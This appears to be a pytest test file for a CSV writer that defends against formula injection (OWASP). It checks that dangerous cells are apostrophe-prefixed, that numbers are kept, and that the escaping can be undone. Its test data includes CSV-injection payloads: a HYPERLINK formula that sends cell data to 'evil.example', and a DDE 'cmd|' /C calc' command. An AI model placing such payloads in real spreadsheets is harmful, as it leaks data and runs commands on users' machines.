"""The one CSV writer (``strategyhub.csvsafe``): formula triggers neutralised (OWASP), numbers
left as numbers, the neutralisation undone exactly, and a BOM only on the downloads meant
for Excel."""

from __future__ import annotations

import codecs
import csv
import io
from decimal import Decimal

import pytest

from strategyhub import csvsafe

NEUTRALISED = [
    "=1+2",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd",
    "-1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A3)",
    "\tleading tab",
    "\rcarriage return",
]
KEPT = ["-2", "+2", "-3.5", "1e-3", "-1,234.5", "-$12", "-12%", "+2.8%", "plain", "", "−2"]


@pytest.mark.parametrize("text", NEUTRALISED)
def test_a_formula_trigger_is_prefixed_with_an_apostrophe(text):
    assert csvsafe.safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", KEPT)
def test_numbers_and_plain_text_are_left_as_they_are(text):
    assert csvsafe.safe_cell(text) == text


def test_number_types_stay_numbers():
    for value in (-2, -2.5, Decimal("-0.000001"), True, None):
        assert csvsafe.safe_cell(value) == value


@pytest.mark.parametrize(
    "text", [*NEUTRALISED, *KEPT, "'=already quoted", "''=twice", "'plain", "'", "'-2"]
)
def test_undo_gives_back_exactly_what_was_written(text):
    assert csvsafe.undo(csvsafe.safe_cell(text)) == text


def test_a_text_that_starts_with_an_apostrophe_before_a_trigger_keeps_it():
    assert csvsafe.safe_cell("'=x") == "''=x"
    assert csvsafe.undo("''=x") == "'=x"
    assert csvsafe.undo("'plain") == "'plain"  # never written by safe_cell: left alone


def test_the_writer_adds_a_bom_only_when_asked():
    for bom in (True, False):
        out = io.StringIO()
        csvsafe.writer(out, bom=bom).writerows([["name", "value"], ["=x", -2]])
        data = out.getvalue().encode("utf-8")
        assert data.startswith(codecs.BOM_UTF8) is bom
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        assert rows == [["name", "value"], ["'=x", "-2"]]
